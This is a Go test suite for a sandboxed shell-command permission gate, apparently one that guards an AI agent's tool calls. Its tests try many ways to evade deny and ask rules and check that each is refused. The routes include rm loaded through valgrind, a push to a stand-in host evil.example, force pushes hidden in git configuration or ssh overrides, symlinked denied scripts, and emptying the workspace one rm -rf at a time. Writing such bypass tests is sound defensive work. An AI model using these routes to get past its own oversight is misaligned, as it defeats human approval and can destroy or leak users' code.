//go:build linux

package shelltool

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/onellm/onellm-mcp/grants"
)

// TestExecGateValgrindClient (review rev20d H1): valgrind's launcher
// (valgrind.bin) and its tools load the client program themselves, with no
// execve the gate sees, so the client must be decided from their argv as
// the line analysis decides `valgrind rm x`: deny rm and a critical rm -r
// outside hold for it.
func TestExecGateValgrindClient(t *testing.T) {
	needProgram(t, "valgrind.bin")
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[[rules.deny]]\nrule_id = \"no-rm\"\ncapability = \"process.exec\"\ntarget = { resource = \"rm\" }\n")
	// valgrind runs in the sandbox (so the test can fail): an allowed
	// program it loads runs.
	if out := runTool(t, &Tool{}, (&gateCall{}).env(p), "valgrind.bin -q --tool=none /bin/echo loaded"); !strings.Contains(out.Stdout, "loaded") {
		t.Fatalf("valgrind.bin does not run in the sandbox: %+v", out)
	}
	victim := filepath.Join(ws, "victim")
	for _, cmd := range []string{
		"sh -c 'valgrind.bin -q --tool=none rm " + victim + "'; echo rc=$?",
		"sh -c 'valgrind.bin -q --tool=none --trace-children=no rm -f -- " + victim + "'; echo rc=$?",
	} {
		if err := os.WriteFile(victim, []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
		out := runTool(t, &Tool{}, (&gateCall{}).env(p), cmd)
		if _, err := os.Stat(victim); err != nil {
			t.Errorf("%s: rm ran under valgrind (%+v)", cmd, out)
		}
		if !strings.Contains(out.Stdout, "rc=137") {
			t.Errorf("%s: valgrind.bin not killed at its exec: %q", cmd, out.Stdout)
		}
	}
}

// TestExecGateGitFormApproval (review rev20d H2): the approval of the
// line's `git push origin main` holds for that push, not for one whose
// global options move it to another remote or repository: the git form
// the gate makes by dropping them must not take the approved request's
// identity.
func TestExecGateGitFormApproval(t *testing.T) {
	// The person's own ssh command (the repository's config, read-only
	// in the sandbox): a stand-in that logs where git would connect.
	ws := gitWorkspace(t, "git remote add origin git@github.com:me/proj.git && git config core.sshCommand /tmp/fakessh")
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[[rules.ask]]\nrule_id = \"ask-push\"\ncapability = \"process.exec\"\ntarget = { command = \"git push*\" }\n")
	tool := &Tool{}
	tool.Start(p)
	args, _ := json.Marshal(Args{Command: "git push origin main"})
	plan, err := tool.Plan(context.Background(), (&gateCall{}).env(p), args)
	if err != nil {
		t.Fatal(err)
	}
	var approved []grants.Request
	for _, r := range plan.Requests {
		if d := p.Decide(r); d.Effect == grants.Ask {
			approved = append(approved, d.Request)
		}
	}
	// A stand-in for ssh logs where git would connect.
	script := `printf '#!/bin/sh\necho "$*" >>/tmp/ssh.log\nexit 1\n' >/tmp/fakessh; chmod +x /tmp/fakessh
printf 'git push origin main\ngit -c remote.origin.pushurl=git@evil.example:x/y.git push origin main\n' >/tmp/p.sh; sh /tmp/p.sh
cat /tmp/ssh.log`
	out := runTool(t, tool, approvingEnv(p, approved), script)
	if strings.Contains(out.Stdout, "evil.example") {
		t.Errorf("the approval of `git push origin main` let a push to another remote run: %q", out.Stdout)
	}
	if !strings.Contains(out.Stdout, "git@github.com") {
		t.Errorf("the approved push itself did not run (the test proves nothing): %q", out.Stdout)
	}
}

// TestExecGateForcePushByConfig (review rev20d H3): a push whose forcing
// refspec comes from configuration (GIT_CONFIG_* in its environment, -c,
// the repository's remote.<name>.push) is a force push: critical, killed
// unless approved in the call.
func TestExecGateForcePushByConfig(t *testing.T) {
	ws := gitWorkspace(t, "git init -q --bare origin.git && git remote add origin ./origin.git && git push -q origin main")
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	script := `git -c user.email=a@b -c user.name=a commit -q --allow-empty -m second && git push -q origin main
git -c user.email=a@b -c user.name=a commit -q --amend --allow-empty -m rewritten
printf 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.push GIT_CONFIG_VALUE_0=+refs/heads/main:refs/heads/main git push -q origin\n' >/tmp/p.sh; sh /tmp/p.sh
git -C origin.git log --format=%s main`
	out := runTool(t, &Tool{}, (&gateCall{}).env(p), script)
	if strings.Contains(out.Stdout, "rewritten") {
		t.Errorf("a forced push ran unapproved: %q", out.Stdout)
	}
	if !strings.Contains(out.Stdout, "second") {
		t.Errorf("a plain push did not run (the test proves nothing): %q", out.Stdout)
	}
}

// gitWorkspace is a workspace holding a git repository on main with one
// commit, after which more runs there (git being needed).
func gitWorkspace(t *testing.T, more string) string {
	t.Helper()
	needProgram(t, "git")
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	c := exec.Command("sh", "-c", "git init -q -b main . && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m init && "+more)
	c.Dir = ws
	if b, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, b)
	}
	return ws
}

// TestExecGateAskRuleOnWorkspaceScript (review rev20d M3): an ask rule
// naming a script the workspace holds is satisfiable: the approval of the
// line's ./deploy.sh holds for it at exec (both name its path), and for
// nothing else: a copy elsewhere, or the script run when not approved, is
// killed.
func TestExecGateAskRuleOnWorkspaceScript(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	for _, name := range []string{"deploy.sh", "other/deploy.sh"} {
		path := filepath.Join(ws, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte("#!/bin/sh\necho ran "+name+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[[rules.ask]]\nrule_id = \"ask-deploy\"\ncapability = \"process.exec\"\ntarget = { resource = \"deploy.sh\" }\n")
	tests := []struct {
		line, approve string
		want, never   []string
	}{
		{line: "./deploy.sh", approve: "./deploy.sh", want: []string{"ran deploy.sh"}},
		{line: "./deploy.sh; other/deploy.sh", approve: "./deploy.sh", want: []string{"ran deploy.sh"}, never: []string{"ran other/deploy.sh"}},
		{line: "./deploy.sh", never: []string{"ran deploy.sh"}},
	}
	for _, tt := range tests {
		t.Run(tt.line+" approving "+tt.approve, func(t *testing.T) {
			tool := &Tool{}
			tool.Start(p)
			var approved []grants.Request
			if tt.approve != "" {
				args, _ := json.Marshal(Args{Command: tt.approve})
				plan, err := tool.Plan(context.Background(), (&gateCall{}).env(p), args)
				if err != nil {
					t.Fatal(err)
				}
				for _, r := range plan.Requests {
					if d := p.Decide(r); d.Effect == grants.Ask {
						approved = append(approved, d.Request)
					}
				}
				if len(approved) == 0 {
					t.Fatalf("the line %q asked nothing (the test proves nothing)", tt.approve)
				}
			}
			out := runTool(t, tool, approvingEnv(p, approved), tt.line)
			for _, w := range tt.want {
				if !strings.Contains(out.Stdout, w) {
					t.Errorf("the approved script did not run (%q missing): %+v", w, out)
				}
			}
			for _, w := range tt.never {
				if strings.Contains(out.Stdout, w) {
					t.Errorf("an unapproved script ran (%q): %+v", w, out)
				}
			}
		})
	}
}

// TestWrittenExe: the path a line's program gets is the one the tracer
// gives it (sandbox.ExecEvent.Written), or none where the tracer gives none.
func TestWrittenExe(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := &grants.Policy{Workspace: ws}
	if err := os.WriteFile(filepath.Join(ws, "s.sh"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	elf, _ := filepath.EvalSymlinks(self)
	if err := os.MkdirAll(filepath.Join(ws, "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	copied := filepath.Join(ws, "bin", "real")
	b, err := os.ReadFile(elf)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(copied, b[:64], 0o755); err != nil {
		t.Fatal(err)
	}
	for _, l := range [][2]string{{"bin/real", "app"}, {"/usr/bin/env", "sys"}} {
		if err := os.Symlink(l[0], filepath.Join(ws, l[1])); err != nil {
			t.Fatal(err)
		}
	}
	tests := []struct{ name, cwd, want string }{
		{"./s.sh", ws, ws + "/s.sh"},
		{"s.sh", ws, ""}, // found on PATH: not placed by the line
		{ws + "/./s.sh", "/", ws + "/s.sh"},
		{"./app", ws, copied},                    // an ELF by its real path
		{"./sys", ws, ws + "/sys"},               // a link to a program outside: by the link
		{"bin/../s.sh", ws, ws + "/bin/../s.sh"}, // "..": as written
		{"/usr/bin/env", ws, ""},
		{"/tmp/x/new.sh", ws, "/tmp/x/new.sh"},
		{"/nonexistent/x", ws, ""},
	}
	for _, tt := range tests {
		if got := writtenExe(p, tt.name, tt.cwd); got != tt.want {
			t.Errorf("writtenExe(%q, %q) = %q, want %q", tt.name, tt.cwd, got, tt.want)
		}
	}
}

// TestExecGateEmptyingOneAtATime (review rev20d M2): removing every entry
// of the workspace one program at a time is the workspace's removal: the
// program that would remove the last entry is killed; removals that leave
// the workspace something run, in the same call and in the next.
func TestExecGateEmptyingOneAtATime(t *testing.T) {
	tests := []struct {
		line            string
		entries         []string
		survivors, gone []string
		refused         bool
	}{
		{line: `for f in *; do rm -rf "$f"; done`, entries: []string{"a", "b", "c", "d", "e"}, survivors: []string{"e"}, gone: []string{"a", "b", "c", "d"}, refused: true},
		{line: `printf 'rm -r "$1"\n' >/tmp/r.sh; for f in *; do sh /tmp/r.sh "$f"; done`, entries: []string{"a", "b", "c"}, survivors: []string{"c"}, gone: []string{"a", "b"}, refused: true},
		{line: `rm -rf a; rm -rf b; rm -rf .h`, entries: []string{"a", "b", ".h"}, survivors: []string{"b"}, gone: []string{"a", ".h"}, refused: true},
		{line: `rm -rf a; rm -rf b`, entries: []string{"a", "b", "c"}, survivors: []string{"c"}, gone: []string{"a", "b"}},
		{line: `rm -rf a && mkdir a && rm -rf a`, entries: []string{"a", "b"}, survivors: []string{"b"}, gone: []string{"a"}},
		// Emptied one root entry at a time (review rev20e L3).
		{line: `for d in */; do rm -rf "$d"*; done`, entries: []string{"a", "b", "c"}, survivors: []string{"c/sub"}, gone: []string{"a/sub", "b/sub"}, refused: true},
		{line: `rm -rf a/*`, entries: []string{"a", "b"}, survivors: []string{"a", "b/sub"}, gone: []string{"a/sub"}},
		// Moved within the workspace, then removed (review rev20e M1).
		{line: `mkdir .t && mv * .t/ && rm -rf .t`, entries: []string{"a", "b", "c", "d"}, survivors: []string{".t"}, refused: true},
		{line: `mkdir .t && mv -vt.t * >/dev/null && rm -rf .t`, entries: []string{"a", "b", "c", "d"}, survivors: []string{".t"}, refused: true},
		{line: `mkdir .t && mv --targ .t * && rm -rf .t`, entries: []string{"a", "b", "c", "d"}, survivors: []string{".t"}, refused: true},
		// Out through a link to the sandbox's private /tmp (review rev20g F5).
		{line: `mkdir -p /tmp/x && ln -s /tmp/x l && for f in a b c; do mv "$f" l/; done`, entries: []string{"a", "b", "c"}, survivors: []string{"c"}, gone: []string{"a", "b"}, refused: true},
		{line: `for f in *; do mv "$f" "$f.x" && rm -rf "$f.x"; done`, entries: []string{"a", "b", "c"}, survivors: []string{"c.x"}, gone: []string{"a.x", "b.x"}, refused: true},
		{line: `mkdir new && mv a b new/ && rm -rf c`, entries: []string{"a", "b", "c", "d"}, survivors: []string{"new/a", "new/b", "d"}, gone: []string{"c"}},
		{line: `mkdir new && mv a b new/ && rm -rf new/a && touch x && rm -rf x`, entries: []string{"a", "b"}, survivors: []string{"new/b"}, gone: []string{"new/a", "x"}},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			ws, _ := filepath.EvalSymlinks(t.TempDir())
			for _, e := range tt.entries {
				if err := os.MkdirAll(filepath.Join(ws, e, "sub"), 0o755); err != nil {
					t.Fatal(err)
				}
			}
			p := policyFor(t, ws, `profile = "interactive-dev"`)
			out := runTool(t, &Tool{}, (&gateCall{}).env(p), tt.line)
			for _, e := range tt.survivors {
				if _, err := os.Stat(filepath.Join(ws, e)); err != nil {
					t.Errorf("%s removed: the workspace was emptied one removal at a time (%+v)", e, out)
				}
			}
			for _, e := range tt.gone {
				if _, err := os.Stat(filepath.Join(ws, e)); err == nil {
					t.Errorf("%s still there: a removal that leaves the workspace something was refused (%+v)", e, out)
				}
			}
			if refused := len(out.RefusedPrograms) > 0; refused != tt.refused {
				t.Errorf("refused programs %q, want some: %v", out.RefusedPrograms, tt.refused)
			}
		})
	}
}

// TestExecGatePushFromOwnRepository (review rev20d): a repository the
// command made has the command's configuration (remote.origin.push =
// +refs/…: a forced push under plain words), so a push from it is
// critical, killed unless approved in the call; a push from the
// repository that was there runs, also through a .git file pointing to it.
func TestExecGatePushFromOwnRepository(t *testing.T) {
	commit := "git -c user.email=a@b -c user.name=a commit -q --allow-empty -m "
	tests := []struct {
		name, script, landed string
		refused              bool
	}{
		{"own repository forcing by its config", "git init -q -b main own && cd own && " + commit + "forced && git config remote.origin.url ../origin.git && git config remote.origin.push +refs/heads/main:refs/heads/main && git push -q origin main", "", true},
		{"clone in /tmp", "git clone -q -b main origin.git /tmp/c && cd /tmp/c && " + commit + "fromtmp && git push -q origin main", "", true},
		{"the workspace's repository", commit + "plain && git push -q origin main", "plain", false},
		{"through a .git file", "mkdir -p sub && printf 'gitdir: '$PWD'/.git\\n' >sub/.git && cd sub && " + commit + "linked && git push -q ../origin.git main", "linked", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ws := gitWorkspace(t, "git init -q --bare -b main origin.git && git remote add origin ./origin.git && git push -q origin main")
			p := policyFor(t, ws, `profile = "interactive-dev"`)
			out := runTool(t, &Tool{}, (&gateCall{}).env(p), tt.script+"; git -C "+ws+"/origin.git log --format=%s main")
			for _, forced := range []string{"forced", "fromtmp"} {
				if strings.Contains(out.Stdout, forced) {
					t.Errorf("a push from a repository the command made landed: %+v", out)
				}
			}
			if tt.landed != "" && !strings.Contains(out.Stdout, tt.landed) {
				t.Errorf("the push did not land (%q missing): %+v", tt.landed, out)
			}
			if refused := slices.ContainsFunc(out.RefusedPrograms, func(s string) bool { return strings.Contains(s, optionOwnRepo) }); refused != tt.refused {
				t.Errorf("refused %q, want refused by the repository: %v", out.RefusedPrograms, tt.refused)
			}
		})
	}
}

// TestExecGatePushThroughCommandsSSH: a push through an ssh command the
// command set (GIT_SSH_COMMAND in a script) is critical: where it lands is
// that program's choice; the one the host passes ([sandbox] env) is the
// person's and changes nothing.
func TestExecGatePushThroughCommandsSSH(t *testing.T) {
	t.Setenv("GIT_SSH_COMMAND", "ssh -o BatchMode=yes")
	for _, tt := range []struct {
		name, script string
		landed       bool
	}{
		{"set by a script", `printf 'GIT_SSH_COMMAND=/bin/true git push -q origin main\n' >/tmp/p.sh; sh /tmp/p.sh`, false},
		{"passed by the host", `sh -c 'git push -q origin main'`, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ws := gitWorkspace(t, "git init -q --bare -b main origin.git && git remote add origin ./origin.git && git push -q origin main && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m second")
			p := policyFor(t, ws, "profile = \"interactive-dev\"\n[sandbox]\nenv = [\"PATH\", \"GIT_SSH_COMMAND\"]\n")
			out := runTool(t, &Tool{}, (&gateCall{}).env(p), tt.script+"; git -C origin.git log --format=%s main")
			if landed := strings.Contains(out.Stdout, "second"); landed != tt.landed {
				t.Errorf("landed %v, want %v: %+v", landed, tt.landed, out)
			}
		})
	}
}

// TestExecGatePushConfigSwapped (review rev20e H1, H3): configuration a
// command adds while it runs to the person's repository (commondir,
// remotes/, a folder of HEAD and commondir beneath it, GIT_COMMON_DIR) or
// the sandbox's global config it drops (git then reads the command's
// ~/.gitconfig) makes a push the command's: a forced push its words do
// not show never lands. Each is run from a script (no line shows it).
func TestExecGatePushConfigSwapped(t *testing.T) {
	evil := `cp -r .git /tmp/evil && printf '[core]\n\trepositoryformatversion = 0\n[remote "origin"]\n\turl = ./origin.git\n\tpush = +refs/heads/main:refs/heads/main\n' >/tmp/evil/config`
	for _, tt := range []struct{ name, script string }{
		{"commondir", evil + " && echo /tmp/evil >/tmp/cd && cp /tmp/cd .git/commondir && git push -q origin main"},
		{"remotes", `printf 'URL: ./origin.git\nPush: +refs/heads/main:refs/heads/main\n' >/tmp/r && mkdir -p .git/remotes && cp /tmp/r .git/remotes/evil && git push -q evil`},
		{"GIT_COMMON_DIR", evil + " && GIT_COMMON_DIR=/tmp/evil git push -q origin main"},
		{"a git directory beneath", evil + " && mkdir sub && echo 'ref: refs/heads/main' >sub/HEAD && echo /tmp/evil >sub/commondir && cd sub && git push -q ../origin.git main"},
		{"env -u GIT_CONFIG_GLOBAL", `printf '[remote "origin"]\n\tpush = +refs/heads/main:refs/heads/main\n' >"$HOME/.gitconfig" && env -u GIT_CONFIG_GLOBAL git push -q origin main`},
		{"unset GIT_CONFIG_GLOBAL", `printf '[remote "origin"]\n\tpush = +refs/heads/main:refs/heads/main\n' >"$HOME/.gitconfig"; unset GIT_CONFIG_GLOBAL; git push -q origin main`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ws := gitWorkspace(t, "git init -q --bare -b main origin.git && git remote add origin ./origin.git && git push -q origin main && git -c user.email=a@b -c user.name=a commit -q --amend --allow-empty -m rewritten")
			if err := os.WriteFile(filepath.Join(ws, "s.sh"), []byte(tt.script+"\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			p := policyFor(t, ws, `profile = "interactive-dev"`)
			out := runTool(t, &Tool{}, (&gateCall{}).env(p), "sh ./s.sh; git -C origin.git log --format=%s main")
			if strings.Contains(out.Stdout, "rewritten") {
				t.Errorf("a forced push by the command's configuration landed: %+v", out)
			}
			if !strings.Contains(out.Stdout, "init") {
				t.Errorf("origin unreadable (the test proves nothing): %+v", out)
			}
		})
	}
}

// TestExecGateDenyScriptByOperand (review rev20e M2): a rule naming a
// script holds when a shell or interpreter is given it as its operand.
func TestExecGateDenyScriptByOperand(t *testing.T) {
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	if err := os.WriteFile(filepath.Join(ws, "deploy.sh"), []byte("#!/bin/sh\necho ran deploy.sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[[rules.deny]]\nrule_id = \"no-deploy\"\ncapability = \"process.exec\"\ntarget = { resource = \"deploy.sh\" }\n")
	for _, line := range []string{"printf 'sh deploy.sh\\n' >s; sh s", "printf 'bash -e ./deploy.sh x\\n' >s; sh s", "sh deploy.sh",
		"printf 'bash < deploy.sh\\n' >s; sh s", "ln -sf deploy.sh go.sh; printf './go.sh\\n' >s; sh s", "ln -sf $PWD/deploy.sh /tmp/go; printf '/tmp/go\\n' >s; sh s"} {
		out := runTool(t, &Tool{}, (&gateCall{}).env(p), line+"; echo done")
		if strings.Contains(out.Stdout, "ran deploy.sh") {
			t.Errorf("%s: the denied script ran: %+v", line, out)
		}
	}
	// Without the rule each spelling runs it (the rows above prove
	// something).
	open := policyFor(t, ws, `profile = "interactive-dev"`)
	for _, line := range []string{"sh deploy.sh", "bash < deploy.sh", "ln -sf deploy.sh go2.sh; printf './go2.sh\\n' >s; sh s"} {
		if out := runTool(t, &Tool{}, (&gateCall{}).env(open), line); !strings.Contains(out.Stdout, "ran deploy.sh") {
			t.Errorf("%s: the script did not run without the rule: %+v", line, out)
		}
	}
	reqs, err := LineRequests(p, "sh deploy.sh", ws, grants.SurfaceSandbox)
	if err != nil {
		t.Fatal(err)
	}
	if v := p.DecideAll(reqs); v.Effect != grants.Deny {
		t.Errorf("the line's sh deploy.sh is not denied: %+v", v)
	}
}
